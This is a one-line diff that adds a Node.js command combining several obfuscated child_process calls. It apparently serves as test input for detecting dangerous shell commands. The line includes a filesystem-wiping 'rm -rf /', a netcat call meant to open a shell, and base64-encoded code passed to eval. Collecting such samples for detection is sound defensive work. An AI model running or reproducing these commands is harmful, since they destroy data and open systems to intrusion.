@@ -1,0 +1,1 @@
+node -e 'const {exec, spawn: s} = require("child_process"); const cp=require("node:child_process"); exec("ls -l", (e,o)=>{ console.log(o) }); s("rm", ["-rf","/"]); cp.spawn("nc",["-e","sh"]); eval(Buffer.from("Y3AuZXhlYygnaWQnKQ==","base64").toString()); eval(atob("Y3AuZXhlYygnaWQnKQ=="))'
